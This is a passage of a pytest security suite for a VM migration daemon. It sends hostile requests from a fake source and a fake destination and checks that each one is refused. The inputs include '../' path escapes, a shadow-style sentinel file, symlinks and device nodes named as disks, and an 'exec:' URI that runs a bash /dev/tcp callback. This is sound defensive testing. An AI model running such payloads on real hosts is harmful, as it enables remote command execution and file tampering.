"""Hostile peers, with real Kerberos identities (hostile_peer.py).

A hostile *source*: from host1's namespace, with alice's ticket (an
administrator of host2, from an address in host2's migration network), it
sends host2's migrate.* ops what an attacker would: disks that are files
outside the storage directory, device nodes, `../` escapes, a symlink planted
in the storage directory, oversized strings, wrongly typed fields, unknown
ops, finish/abort of a VM it does not own. Each must be refused with an
error that says what is wrong, the daemon must keep serving, and no file may
change or appear.

A hostile *destination*: a fake ferryd holding host2's keytab (the real one
is not running) that a real host1 moves a running guest to, answering
migrate.prepare with an `exec:`/`unix:`/`fd:` URI, a port of 0 or 70000, or
an address outside the migration network. The move must fail, no command
may run and nothing may connect where the fake destination pointed, and the
guest must keep running on host1.

Each case names the finding of the security review it covers (H1, H2, M2,
M8, M9, L17). A defect found and not yet fixed gets xfail(strict) with its
reason, so that the fix turns it into a failure until the mark goes."""
import hashlib
import json
import os
import select
import shutil
import stat
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

from conftest import (FERRY, HOSTS, LAB_ENV, LAB_STATE, PREFIX, WORK, dc, define_guest, enable_migration, heartbeat,
                      kinit, on, qemus_in, remote_ferry, run, scrub_host, wait_for)

HP = Path(__file__).resolve().with_name("hostile_peer.py")
PY = "/usr/bin/python3"        # Debian's, with python3-gssapi
H2 = HOSTS["host2"]
VM = "hp1"                     # the VM the hostile source asks host2 to take
ERROR_CODES = {"bad_request", "invalid", "not_found", "exists", "busy", "refused", "failed", "unauthorized",
               "unauthenticated"}
SHADOW = "root:$6$hostile$sentinelsentinelsentinel:19700:0:99999:7:::\nalice:!:19700:0:99999:7:::\n"


class HarnessError(Exception):
    """The harness itself failed (not an AssertionError: an xfail must not hide it)."""


def sha256(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


class Findings:
    """Collects every broken expectation of a test, so that a failure lists
    all the harm done, not only the first."""

    def __init__(self):
        self.items, self.notes = [], []

    def check(self, ok, what):
        if not ok:
            self.items.append(what)
        return ok

    def note(self, what):
        """Context shown with the failures (the daemon's own words)."""
        self.notes.append(what)

    def done(self):
        for n in self.notes:
            print(n)  # shown with pytest -rP: the daemon's words when all went well
        if self.items:
            raise AssertionError("\n  - ".join(["hostile peer:"] + self.items) +
                                 "".join(f"\n  ({n})" for n in self.notes))


def error_of(reply):
    return (reply or {}).get("error") or {}


def refused_clearly(f, reply, *needles):
    """The reply is an error with a known code whose message names what is
    wrong (any of needles, case-insensitive)."""
    if not f.check(isinstance(reply, dict) and reply.get("ok") is False,
                   f"the daemon accepted it: {json.dumps(reply)[:300]}"):
        return
    e = error_of(reply)
    msg = e.get("message", "")
    f.note(f"refused: {e.get('code')}: {msg}")
    f.check(e.get("code") in ERROR_CODES, f"unknown error code {e.get('code')!r}")
    if needles:
        f.check(any(n.lower() in msg.lower() for n in needles),
                f"the error does not say what is wrong (expected one of {list(needles)}): {msg!r}")


# ------------------------------------------------------------------ running the harness

def hostile_client(node, scenario, tmp_path, ccache=None, timeout=180):
    """Runs hostile_peer.py client on a lab node; its JSON result."""
    path = tmp_path / f"scenario-{time.monotonic_ns()}.json"
    path.write_text(json.dumps(scenario))
    cmd = on(node, *(["env", f"KRB5CCNAME=FILE:{ccache}"] if ccache else []), PY, HP, "client", path)
    r = subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, env=LAB_ENV)
    if r.returncode != 0:
        raise HarnessError(f"hostile_peer.py client failed ({r.returncode}): {r.stderr[-3000:]}")
    return json.loads(r.stdout)


class Dest:
    """host2, a real destination, and a hostile source on host1 with alice's ticket."""

    def __init__(self, host, storage, ccache, guest, tmp_path):
        self.host, self.storage, self.ccache, self.guest, self.tmp = host, storage, ccache, guest, tmp_path

    def run(self, steps, conns=None, **kw):
        """The steps over TCP to host2's migration address, then a host.show
        on a fresh connection: the listener still serves."""
        sc = {"host": H2["fqdn"], "connect": H2["mig"], "steps": steps + [{"conn": "after", "call": "host.show"}],
              "conns": conns or {}, **kw}
        out = hostile_client("host1", sc, self.tmp, ccache=self.ccache)
        for cid, c in out["conns"].items():
            if cid in (conns or {}) and ("preauth" in conns[cid] or "preauth_raw" in conns[cid]):
                continue
            if c.get("handshake") != "ok":
                raise HarnessError(f"connection {cid} did not authenticate: {c}")
        return out

    def replies(self, out):
        return [s.get("reply") for s in out["steps"] if s["conn"] != "after" and ("reply" in s or "error" in s)]

    def config(self, disks, **over):
        cfg = {"name": VM, "memory-mib": 64, "vcpus": 1, "kernel": str(self.guest / "vmlinuz"),
               "initrd": str(self.guest / "initrd.img"), "cmdline": "console=ttyS0", "disks": disks, "nics": [],
               "processor-compat": False, "config-version": 7}
        cfg.update(over)
        return cfg

    def prepare_args(self, disk_path, size_path=None, storage=True, fmt="qcow2", cfg=None, **over):
        """migrate.prepare as a real source sends it; disk_path goes into the
        configuration, size_path (default: the same) into the size list."""
        size_path = disk_path if size_path is None else size_path
        args = {"config": cfg if cfg is not None else self.config([{"path": str(disk_path), "format": fmt}]),
                "include-storage": storage, "disks": [{"path": str(size_path), "size": 1 << 20, "allocated": 0}],
                "psk-identity": "ferry-move-4242", "psk": os.urandom(32).hex(), "encryption": True,
                "performance": "tcpip", "channels": 4}
        if storage:
            args["storage-path"] = str(self.storage)
        args.update(over)
        return args

    def snapshot(self):
        """Everything a refused request must leave as it was on host2."""
        def listing(d):
            if not d.exists():
                return {}
            return {p.name: (stat.S_IFMT(p.lstat().st_mode), os.readlink(p) if p.is_symlink() else None)
                    for p in d.iterdir()}
        return {"storage": listing(self.storage), "state-vms": listing(self.host.state / "vms"),
                "run-vms": listing(self.host.rundir / "vms"), "vms": self.host.vm_names(),
                "qemus": qemus_in(self.host)}

    def settle(self):
        """The hostile connections are closed: wait until host2 has removed
        any VM they planned (it does so when a connection drops)."""
        try:
            wait_for(lambda: not qemus_in(self.host) and not (self.host.rundir / "vms" / VM).exists(),
                     timeout=30, interval=0.3, what="host2 to drop the planned VM")
        except AssertionError:
            pass  # reported by the snapshot comparison

    def still_serves(self, f, out):
        f.check(self.host.proc.poll() is None, "ferryd on host2 exited")
        after = [s for s in out["steps"] if s["conn"] == "after"]
        f.check(after and (after[-1].get("reply") or {}).get("ok") is True,
                f"host.show over TCP afterwards failed: {after}")
        r = self.host.ferry_raw("--json", "host", "show")
        f.check(r.returncode == 0 and json.loads(r.stdout)["host-name"] == self.host.fqdn,
                f"ferry host show on host2 failed afterwards: {r.stderr}")


@pytest.fixture
def dest(lab, host2, guest, tmp_path):
    enable_migration(host2)
    storage = host2.dir / "storage"
    storage.mkdir(parents=True, exist_ok=True)
    cc = tmp_path / "alice-on-host1.ccache"
    r = kinit("host1", "alice", lab["LAB_ALICE_PASSWORD"], cc)
    assert r.returncode == 0, r.stderr
    d = Dest(host2, storage, cc, guest, tmp_path)
    # host2 listens on its migration address within a second of the network being added
    wait_for(lambda: "10.78.0.12:6600" in run(["ip", "netns", "exec", f"{PREFIX}host2", "ss", "-Htln"]).stdout,
             timeout=10, interval=0.2, what="host2 listening on its migration address")
    return d


# ------------------------------------------------------------------ what the hostile source points at

class Target:
    """A file, link or device node a hostile source names as a disk, and
    how to tell that it (and what it leads to) did not change."""

    def __init__(self, path, fmt, watch):
        self.path, self.fmt, self.watch = Path(path), fmt, watch

    def state(self):
        out = {}
        for p in self.watch:
            p = Path(p)
            try:
                st = p.lstat()
            except FileNotFoundError:
                out[str(p)] = None
                continue
            kind = stat.S_IFMT(st.st_mode)
            if stat.S_ISLNK(st.st_mode):
                out[str(p)] = ("link", os.readlink(p))
            elif stat.S_ISREG(st.st_mode):
                out[str(p)] = ("file", sha256(p), st.st_size)
            else:
                out[str(p)] = (kind, st.st_rdev)
        return out


FIXED_SENTINEL = Path(f"/run/ferry-hostile-{PREFIX}.shadow")


@pytest.fixture
def targets():
    """make(kind, storage_dir) -> Target; everything made is removed at the
    end (listed before host2 in a test, this is torn down after it). Files
    and nodes live in a directory of the tests' work directory, which the
    destination may use for disks (its storage roots, where it has them):
    only the checks of what a disk may be protect them, not the roots."""
    loops, made = [], []
    work = Path(tempfile.mkdtemp(prefix="hostile-", dir=WORK))

    def shadow(path):
        path.write_text(SHADOW)
        path.chmod(0o640)
        return path

    def make(kind, storage):
        if kind == "workdir-file":
            p = shadow(work / "shadow")
            return Target(p, "raw", [p])
        if kind == "fixed-file":
            # a fixed place outside every storage and test directory, like /etc/shadow
            FIXED_SENTINEL.unlink(missing_ok=True)
            fd = os.open(FIXED_SENTINEL, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW, 0o640)
            os.write(fd, SHADOW.encode())
            os.close(fd)
            made.append(FIXED_SENTINEL)
            return Target(FIXED_SENTINEL, "raw", [FIXED_SENTINEL])
        if kind == "symlink-to-file":
            p = shadow(work / "shadow")
            link = storage / f"{VM}.qcow2"
            link.symlink_to(p)
            return Target(link, "raw", [link, p])
        if kind == "symlink-to-fixed-file":
            p = make("fixed-file", storage).path
            link = storage / f"{VM}.qcow2"
            link.symlink_to(p)
            return Target(link, "raw", [link, p])
        if kind == "dangling-symlink":
            p = work / "planted-target"
            link = storage / f"{VM}.qcow2"
            link.symlink_to(p)
            return Target(link, "qcow2", [link, p])
        if kind == "block-device":
            backing = work / "loop-backing.img"
            with open(backing, "wb") as f:
                f.write(b"\xa5" * (4 << 20))
            r = run(["losetup", "--find", "--show", backing], check=False)
            if r.returncode != 0:
                pytest.skip(f"no loop device: {r.stderr.strip()}")
            dev = r.stdout.strip()
            loops.append(dev)
            node = work / "blockdev"
            os.mknod(node, 0o600 | stat.S_IFBLK, os.stat(dev).st_rdev)
            return Target(node, "qcow2", [node, backing])
        if kind == "char-device":
            node = work / "null-like"
            os.mknod(node, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
            return Target(node, "raw", [node])
        raise ValueError(kind)

    yield make
    for dev in loops:
        run(["losetup", "-d", dev], check=False)
    for p in made:
        p.unlink(missing_ok=True)
    shutil.rmtree(work, ignore_errors=True)


def attempt(dest, target, args, *needles):
    """Sends one migrate.prepare, then checks everything a refusal implies."""
    f = Findings()
    before, snap = target.state(), dest.snapshot()
    out = dest.run([{"call": "migrate.prepare", "args": args}])
    refused_clearly(f, dest.replies(out)[0], *needles)
    dest.settle()
    after = target.state()
    for p in before:
        f.check(after[p] == before[p], f"{p} changed: {before[p]} -> {after[p]}")
    now = dest.snapshot()
    f.check(now == snap, f"host2 changed: {snap} -> {now}")
    dest.still_serves(f, out)
    return f


# ------------------------------------------------------------------ hostile source: the harness is right

def test_harness_well_formed_prepare_is_accepted_and_dropped_with_the_connection(dest):
    """Control: the request the other tests alter is a good one. host2 plans
    the VM (disk created, QEMU waiting), a second connection may neither
    finish nor abort it, and it goes away with the connection that made it."""
    disk = dest.storage / f"{VM}.qcow2"
    out = dest.run([
        {"conn": "a", "call": "migrate.prepare", "args": dest.prepare_args(disk)},
        {"conn": "b", "call": "migrate.finish", "args": {"name": VM}},
        {"conn": "b", "call": "migrate.abort", "args": {"name": VM}},
        {"conn": "a", "call": "migrate.prepare", "args": dest.prepare_args(disk)},
    ])
    prep, finish_b, abort_b, again = dest.replies(out)
    assert prep["ok"] is True, prep
    assert prep["result"]["address"] == H2["mig"] and 0 < prep["result"]["port"] < 65536
    assert prep["result"]["uri"] == f"tcp:{H2['mig']}:{prep['result']['port']}"
    for rep in (finish_b, abort_b):
        assert rep["ok"] is False and VM in rep["error"]["message"], rep
    assert again["ok"] is False and again["error"]["code"] == "busy", again
    dest.settle()
    assert not disk.exists()
    assert not (dest.host.rundir / "vms" / VM).exists()
    assert qemus_in(dest.host) == []


# ------------------------------------------------------------------ hostile source: disks

TARGETS = ["workdir-file", "fixed-file", "symlink-to-file", "symlink-to-fixed-file", "dangling-symlink",
           "block-device", "char-device"]


@pytest.mark.parametrize("kind", TARGETS)
def test_existing_file_link_or_device_as_new_disk_is_refused(targets, dest, kind):
    """--include-storage to a path that exists, named the same in the
    configuration and in the size list: the overwrite guard refuses it."""
    t = targets(kind, dest.storage)
    attempt(dest, t, dest.prepare_args(t.path, fmt=t.fmt), str(t.path), "disk 0").done()


@pytest.mark.parametrize("kind", TARGETS)
def test_size_list_cannot_smuggle_a_target_past_the_overwrite_guard(targets, dest, kind):
    """The configuration names the target, the size list an innocent new
    file in the storage directory."""
    t = targets(kind, dest.storage)
    args = dest.prepare_args(t.path, size_path=dest.storage / "innocent.qcow2", fmt=t.fmt)
    attempt(dest, t, args, str(t.path), "disk 0").done()


@pytest.mark.parametrize("kind", TARGETS)
def test_existing_file_link_or_device_as_shared_disk_is_refused(targets, dest, kind):
    """Without --include-storage the destination opens the disk where it is:
    a file that is no disk of the moving VM, or a device node, must be refused."""
    t = targets(kind, dest.storage)
    attempt(dest, t, dest.prepare_args(t.path, storage=False, fmt=t.fmt), str(t.path), "disk 0").done()


@pytest.mark.parametrize("field", ["disk-path", "disk-relative", "vm-path", "name", "kernel"])
def test_dotdot_escapes_are_refused(targets, dest, field):
    t = targets("fixed-file", dest.storage)
    escape = f"{dest.storage}/../../../../../../..{t.path}"
    disk = dest.storage / f"{VM}.qcow2"
    if field == "disk-path":
        args = dest.prepare_args(escape, fmt="raw")
    elif field == "disk-relative":
        args = dest.prepare_args(f"../../../../../../..{t.path}", fmt="raw")
    else:
        args = dest.prepare_args(disk, cfg={
            "vm-path": dest.config([{"path": str(disk)}], **{"vm-path": f"{dest.storage}/../../../../run"}),
            "name": dest.config([{"path": str(disk)}], name="../../../run/x"),
            "kernel": dest.config([{"path": str(disk)}], kernel=escape, initrd=escape),
        }[field])
    attempt(dest, t, args, "..", "name").done()


# ------------------------------------------------------------------ hostile source: strings, types, ops

def test_oversized_strings_are_refused(dest):
    disk = dest.storage / f"{VM}.qcow2"
    big = "a" * 5000
    cases = {
        "name": (dest.prepare_args(disk, cfg=dest.config([{"path": str(disk)}], name=big)), "name"),
        "disk path": (dest.prepare_args(disk, cfg=dest.config([{"path": f"{dest.storage}/{big}"}])), "path"),
        "cmdline": (dest.prepare_args(disk, cfg=dest.config([{"path": str(disk)}], cmdline=big)), "cmdline"),
        "psk-identity": (dest.prepare_args(disk, **{"psk-identity": big}), "psk"),
        "psk": (dest.prepare_args(disk, psk="ab" * 2500), "psk"),
    }
    f = Findings()
    snap = dest.snapshot()
    out = dest.run([{"conn": name, "call": "migrate.prepare", "args": a} for name, (a, _) in cases.items()]
                   + [{"conn": "op", "call": "migrate." + "x" * 64}])
    reps = dest.replies(out)
    if len(reps) != len(cases) + 1:
        raise HarnessError(f"expected {len(cases) + 1} answers: {out['steps']}")
    for (_, needle), rep in zip(cases.values(), reps):
        refused_clearly(f, rep, needle)
    refused_clearly(f, reps[-1], "op")
    dest.settle()
    f.check(dest.snapshot() == snap, "host2 changed")
    dest.still_serves(f, out)
    f.done()


def prepare_is_refused(dest, args, needle):
    """One migrate.prepare with args: refused with an error naming needle,
    host2 unchanged and still serving."""
    f = Findings()
    snap = dest.snapshot()
    out = dest.run([{"call": "migrate.prepare", "args": args}])
    refused_clearly(f, dest.replies(out)[0], needle)
    dest.settle()
    f.check(dest.snapshot() == snap, "host2 changed")
    dest.still_serves(f, out)
    f.done()


def test_oversized_performance_is_refused(dest):
    prepare_is_refused(dest, dest.prepare_args(dest.storage / f"{VM}.qcow2", performance="x" * 100000),
                       "performance")


def test_unencrypted_move_is_refused_by_a_destination_that_encrypts(dest):
    assert dest.host.ferry("host", "show")["settings"]["encryption"] is True
    args = dest.prepare_args(dest.storage / f"{VM}.qcow2", encryption=False)
    del args["psk"], args["psk-identity"]
    prepare_is_refused(dest, args, "encrypt")


def test_message_over_one_mib_is_refused_and_the_daemon_goes_on(dest):
    """A sealed frame beyond 1 MiB + 1024: answered once, that connection
    closed (its payload is never read), every other one unaffected."""
    out = dest.run([
        {"conn": "big", "call": "host.show", "pad": 1100 * 1024},
        {"conn": "big", "call": "host.show"},
    ])
    first, second = [s for s in out["steps"] if s["conn"] == "big"]
    f = Findings()
    if f.check("reply" in first, f"no answer to the oversized frame: {first}"):
        refused_clearly(f, first["reply"], "larger than")
    f.check("reply" not in second, f"the connection went on after an oversized frame: {second}")
    dest.still_serves(f, out)
    f.done()


WRONG_TYPES = {
    # numbers as strings
    "memory-mib": lambda d, disk: d.prepare_args(disk, cfg=d.config([{"path": str(disk)}], **{"memory-mib": "64"})),
    "vcpus": lambda d, disk: d.prepare_args(disk, cfg=d.config([{"path": str(disk)}], vcpus="1")),
    "config-version": lambda d, disk: d.prepare_args(disk, cfg=d.config([{"path": str(disk)}],
                                                                         **{"config-version": "7"})),
    "channels": lambda d, disk: d.prepare_args(disk, performance="multichannel", channels="4"),
    # arrays as objects and the other way round
    "config.disks": lambda d, disk: d.prepare_args(disk, cfg=d.config({"path": str(disk)})),
    "config.nics": lambda d, disk: d.prepare_args(disk, cfg=d.config([{"path": str(disk)}],
                                                                      nics={"switch": "External"})),
    "config.disks[0]": lambda d, disk: d.prepare_args(disk, cfg=d.config([[str(disk), "qcow2"]])),
    "config": lambda d, disk: d.prepare_args(disk, cfg=[{"name": VM}]),
    "psk": lambda d, disk: d.prepare_args(disk, psk=12345678),
    # 64 characters, but not hex: the newline would add a line to keys.psk
    "psk-not-hex": lambda d, disk: d.prepare_args(disk, psk="ab" * 31 + "a\n"),
}
NEEDLES = {"memory-mib": "memory-mib", "vcpus": "vcpus", "config-version": "version", "channels": "channels",
           "config.disks": "disks", "config.nics": "nics", "config.disks[0]": "disk 0", "config": "configuration",
           "psk": "psk", "psk-not-hex": "psk"}
@pytest.mark.parametrize("field", list(WRONG_TYPES))
def test_wrongly_typed_fields_are_refused(dest, field):
    disk = dest.storage / f"{VM}.qcow2"
    f = Findings()
    snap = dest.snapshot()
    out = dest.run([{"call": "migrate.prepare", "args": WRONG_TYPES[field](dest, disk)}])
    refused_clearly(f, dest.replies(out)[0], NEEDLES[field])
    dest.settle()
    f.check(not disk.exists(), f"{disk} was created")
    f.check(dest.snapshot() == snap, "host2 changed")
    dest.still_serves(f, out)
    f.done()


@pytest.mark.parametrize("field,value", [
    pytest.param("size", "1048576", id="size-as-string"),
    pytest.param("size", -1, id="size-negative"),
    pytest.param("disks", "object", id="disks-as-object"),
])
def test_wrongly_typed_size_list_is_refused(dest, field, value):
    disk = dest.storage / f"{VM}.qcow2"
    args = dest.prepare_args(disk)
    if field == "disks":
        args["disks"] = args["disks"][0]
    else:
        args["disks"][0][field] = value
    f = Findings()
    snap = dest.snapshot()
    out = dest.run([{"call": "migrate.prepare", "args": args}])
    refused_clearly(f, dest.replies(out)[0], "size", "disks")
    dest.settle()
    f.check(not disk.exists(), f"{disk} is left behind")
    f.check(dest.snapshot() == snap, "host2 changed")
    dest.still_serves(f, out)
    f.done()


def test_unknown_and_malformed_ops_are_refused(dest):
    ops = ["migrate.exec", "migrate.prepare.now", "MIGRATE.PREPARE", "migrate.", "vm.move-in", "host.shell"]
    steps = [{"call": op, "args": {"name": VM}} for op in ops]
    steps += [{"send": {"op": ""}}, {"send": {"op": 5}}, {"send": {"args": {}}},
              {"send": {"op": "migrate.prepare", "args": [1, 2]}}, {"send_text": '{"op":"host.show","op":"x"}'}]
    out = dest.run(steps)
    f = Findings()
    reps = dest.replies(out)
    for op, rep in zip(ops, reps):
        refused_clearly(f, rep, op)
        f.check(error_of(rep).get("code") == "bad_request", f"{op}: {rep}")
    for rep in reps[len(ops):]:
        refused_clearly(f, rep, "op", "args", "JSON")
    f.check(len(reps) == len(steps), f"the connection broke: {out['steps']}")
    dest.still_serves(f, out)
    f.done()


def test_finish_and_abort_of_a_vm_it_does_not_own_are_refused(dest):
    """Connection a plans hp1; b may neither finish nor abort it, nor a VM
    that host2 has anyway (victim); a still owns hp1 afterwards."""
    h = dest.host
    h.ferry("vm", "define", "victim", "--kernel", dest.guest / "vmlinuz", "--initrd", dest.guest / "initrd.img",
            "--memory", "64M")
    disk = dest.storage / f"{VM}.qcow2"
    out = dest.run([
        {"conn": "a", "call": "migrate.prepare", "args": dest.prepare_args(disk)},
        {"conn": "b", "call": "migrate.finish", "args": {"name": VM}},
        {"conn": "b", "call": "migrate.abort", "args": {"name": VM}},
        {"conn": "b", "call": "migrate.finish", "args": {"name": "victim"}},
        {"conn": "b", "call": "migrate.abort", "args": {"name": "victim"}},
        {"conn": "b", "call": "migrate.abort", "args": {"name": ["victim"]}},
        {"conn": "b", "call": "migrate.finish", "args": {}},
        {"conn": "a", "call": "migrate.abort", "args": {"name": "victim"}},
        {"conn": "b", "call": "host.show"},
        {"conn": "a", "call": "migrate.abort", "args": {"name": VM}},
    ])
    reps = dest.replies(out)
    f = Findings()
    f.check(reps[0]["ok"] is True, f"the planning connection was refused: {reps[0]}")
    for rep, needle in zip(reps[1:8], [VM, VM, "victim", "victim", "name", "name", "victim"]):
        refused_clearly(f, rep, needle, "not prepared")
    f.check(reps[8]["ok"] is True, "b could not go on after its refusals")
    f.check(reps[9]["ok"] is True, f"a could not abort its own VM after b tried: {reps[9]}")
    dest.settle()
    f.check(not disk.exists(), f"{disk} is left behind")
    f.check(h.vm_names() == ["victim"], f"VMs on host2: {h.vm_names()}")
    f.check(h.ferry("vm", "show", "victim")["state"] == "off", "victim changed")
    dest.still_serves(f, out)
    f.done()


# ------------------------------------------------------------------ hostile source: the protocol itself

def test_requests_before_or_outside_the_sealed_session_are_refused(dest):
    out = dest.run(
        [{"conn": "early"},  # opened with a JSON request instead of a Kerberos token
         {"conn": "junk"},   # a token that is no Kerberos token
         {"conn": "plain", "call": "host.show"}, {"conn": "plain", "unsealed": {"op": "host.show"}},
         {"conn": "plain", "call": "host.show"},
         {"conn": "replay", "call": "host.show"}, {"conn": "replay", "replay": True},
         {"conn": "replay", "call": "host.show"}],
        conns={"early": {"preauth": {"op": "migrate.prepare", "args": {}}},
               "junk": {"preauth_raw": "60" + "41" * 40}})
    f = Findings()
    for cid, needle in (("early", "before Kerberos authentication"), ("junk", "Kerberos authentication")):
        c = out["conns"][cid]
        f.check(c.get("handshake") == "refused", f"{cid}: {c}")
        refused_clearly(f, c.get("refusal"), needle)
    by = {}
    for s in out["steps"]:
        by.setdefault(s["conn"], []).append(s)
    for cid in ("plain", "replay"):
        good, bad, after = by[cid]
        f.check((good.get("reply") or {}).get("ok") is True, f"{cid}: {good}")
        refused_clearly(f, bad.get("reply"), "integrity")
        f.check("reply" not in after, f"{cid}: the connection went on after a bad frame: {after}")
    dest.still_serves(f, out)
    f.done()


def test_host_computer_account_is_no_administrator(dest):
    """host1's keytab as HOST1$: authenticated, refused every op."""
    sc = {"host": H2["fqdn"], "connect": H2["mig"],
          "cred": {"keytab": str(LAB_STATE / "host1.keytab"), "principal": "HOST1$@LAB.TEST"},
          "steps": [{"call": "migrate.addresses"},
                    {"call": "migrate.prepare", "args": dest.prepare_args(dest.storage / f"{VM}.qcow2")},
                    {"call": "host.show"}]}
    out = hostile_client("host1", sc, dest.tmp)
    assert out["conns"]["a"]["handshake"] == "ok", out
    f = Findings()
    for s in out["steps"]:
        refused_clearly(f, s.get("reply"), "HOST1$@LAB.TEST")
        f.check(error_of(s.get("reply")).get("code") == "unauthorized", f"{s}")
    f.check(qemus_in(dest.host) == [] and not (dest.storage / f"{VM}.qcow2").exists(), "something was planned")
    f.done()


def test_ticket_for_another_service_of_the_keytab_is_refused(dest):
    """Review M4: host2's keytab also holds the key of nfs/host2, a service
    account of its own (its own key). alice's ticket for nfs/host2 is
    refused; her ticket for ferry/host2 on another connection is accepted."""
    kt = LAB_STATE / "host2.keytab"
    saved = kt.read_bytes()
    spn = f"nfs/{H2['fqdn']}"
    try:
        if dc("tool", "user", "show", "nfs-host2", check=False).returncode != 0:
            dc("tool", "user", "create", "nfs-host2", "Nfs-Service-Passw0rd")
            dc("tool", "spn", "add", spn, "nfs-host2")
        dc("tool", "domain", "exportkeytab", kt, f"--principal={spn}")
        assert spn in run(["klist", "-k", kt]).stdout
        sc = {"host": H2["fqdn"], "connect": H2["mig"],
              "conns": {"nfs": {"service": "nfs"}},
              "steps": [{"conn": "nfs", "call": "host.show"}, {"conn": "ferry", "call": "host.show"}]}
        out = hostile_client("host1", sc, dest.tmp, ccache=dest.ccache)
    finally:
        kt.write_bytes(saved)
    assert out["conns"]["nfs"]["handshake"] == "refused", out
    assert out["conns"]["ferry"]["handshake"] == "ok", out
    assert out["steps"][1]["reply"]["ok"] is True, out


# ------------------------------------------------------------------ hostile destination

class FakeDest:
    """hostile_peer.py serve in host2's namespace with host2's keytab."""

    def __init__(self, tmp_path, prepare_result, data=(), delays=None):
        ok = lambda r: {"ok": True, "result": r}  # noqa: E731
        self.log = tmp_path / "fake-dest.jsonl"
        self.scenario = {
            "host": H2["fqdn"], "keytab": str(LAB_STATE / "host2.keytab"), "log": str(self.log),
            "listen": [["0.0.0.0", 6600]], "data": list(data), "delays": delays or {},
            "replies": {
                "migrate.addresses": ok({"addresses": [{"address": H2["mig"], "priority": 1}],
                                         "migration-enabled": True}),
                "migrate.check": ok({"problems": [], "capabilities": {}}),
                "migrate.prepare": ok(prepare_result),
                "migrate.abort": ok({}),
                "vm.show": {"ok": False, "error": {"code": "not_found", "message": "no VM here"}},
            }}
        path = tmp_path / "fake-dest.json"
        path.write_text(json.dumps(self.scenario))
        self.errf = open(tmp_path / "fake-dest.stderr", "w")
        self.proc = subprocess.Popen(on("host2", PY, HP, "serve", path), env=LAB_ENV, stdout=subprocess.PIPE,
                                     stderr=self.errf, text=True)
        ready, _, _ = select.select([self.proc.stdout], [], [], 20)
        if not ready or self.proc.stdout.readline().strip() != "ready":
            self.stop()
            raise HarnessError(f"the fake destination did not start: {(tmp_path / 'fake-dest.stderr').read_text()}")

    def events(self):
        return [json.loads(line) for line in self.log.read_text().splitlines()] if self.log.exists() else []

    def stop(self):
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        self.errf.close()


@pytest.fixture
def source_host(lab, host1, tmp_path):
    """host1, a source; host2's namespace has no ferryd (a fake one takes its
    place); alice signed in on the client."""
    scrub_host("host2")
    enable_migration(host1)
    cc = tmp_path / "alice.ccache"
    r = kinit("client", "alice", lab["LAB_ALICE_PASSWORD"], cc)
    assert r.returncode == 0, r.stderr
    fakes = []
    yield host1, cc, fakes
    for fd in fakes:
        fd.stop()
    scrub_host("host2")


@pytest.fixture
def source(source_host, guest):
    """... and host1 runs the test guest."""
    host1 = source_host[0]
    define_guest(host1, guest, dirty=0)
    host1.ferry("vm", "start", "web1")
    wait_for(lambda: heartbeat(host1, "web1") >= 1, timeout=180, what="the guest's first heartbeat")
    return source_host


MIG2 = H2["mig"]
LAN2 = H2["ip"]      # host2's LAN address: outside the migration network 10.78.0.0/24


def dest_case(uri, address=MIG2, port=4444, nbd=0, data=(), storage=False):
    return {"prepare": {"uri": uri, "address": address, "port": port, "nbd-port": nbd}, "data": list(data),
            "storage": storage}


# The command an exec: URI runs proves it ran twice over: a marker file (if
# QEMU may write there) and a connection back to the fake destination
# (whatever user QEMU runs as).
CALLBACK = [MIG2, 7003]
EXEC_CMD = "touch {marker}; bash -c 'echo ran-on-the-source >/dev/tcp/{0}/{1}'"


def dest_exec(t):
    return dest_case("exec:" + EXEC_CMD.format(*CALLBACK, marker=t["tmp"] / "marker"), data=[{"tcp": CALLBACK}])


def dest_unix(t):
    sock = t["public"] / "evil.sock"
    return dest_case(f"unix:{sock}", data=[{"unix": str(sock)}])


DEST_CASES = {
    "exec-uri": pytest.param(dest_exec, id="exec-uri"),
    "unix-uri": pytest.param(dest_unix,
                             id="unix-uri"),
    "fd-uri": pytest.param(lambda t: dest_case("fd:3"), id="fd-uri"),
    "port-0": pytest.param(lambda t: dest_case(f"tcp:{MIG2}:0", port=0), id="port-0"),
    "port-70000": pytest.param(lambda t: dest_case(f"tcp:{MIG2}:70000", port=70000,
                                                   data=[{"tcp": [MIG2, 70000 - 65536]}]),
                               id="port-70000"),
    "address-outside": pytest.param(lambda t: dest_case(f"tcp:{LAN2}:7001", address=LAN2, port=7001,
                                                        data=[{"tcp": [LAN2, 7001]}]), id="address-outside"),
    "nbd-address-outside": pytest.param(lambda t: dest_case(f"tcp:{MIG2}:7001", address=LAN2, port=7001, nbd=7002,
                                                            data=[{"tcp": [LAN2, 7002]}], storage=True),
                                        id="nbd-address-outside"),
}


@pytest.fixture
def public_dir():
    """A directory any user may pass through (QEMU may run unprivileged),
    writable by root only: for the unix socket a hostile destination names."""
    d = Path(tempfile.mkdtemp(prefix=f"ferry-hostile-{PREFIX}-", dir="/run"))
    d.chmod(0o711)
    yield d
    shutil.rmtree(d, ignore_errors=True)


@pytest.mark.parametrize("case", list(DEST_CASES.values()))
def test_hostile_destination_cannot_redirect_the_source(source, tmp_path, public_dir, case):
    host1, cc, fakes = source
    c = case({"tmp": tmp_path, "public": public_dir})
    fake = FakeDest(tmp_path, c["prepare"], c["data"])
    fakes.append(fake)
    beat = heartbeat(host1, "web1")
    opts = ["--include-storage", "--storage-path", str(tmp_path)] if c["storage"] else []
    r = remote_ferry(host1.fqdn, "--json", "vm", "move", "web1", H2["fqdn"], *opts, ccache=cc)
    time.sleep(1.5)  # a data connection or the command may come a moment after the failure
    events = fake.events()
    prepares = [e for e in events if e.get("event") == "request" and e.get("op") == "migrate.prepare"]
    auth = [e.get("principal") for e in events if e.get("event") == "authenticated"]
    if not prepares:
        raise HarnessError(f"the source never reached migrate.prepare: {r.stdout} {r.stderr} {events}")
    f = Findings()
    f.check(auth and set(auth) == {"alice@LAB.TEST"}, f"the source authenticated as {auth}")
    job = json.loads(r.stdout) if r.stdout.strip().startswith("{") else {}
    f.note(f"the move: rc {r.returncode}, failed at {job.get('failed-stage')}: {job.get('error')}")
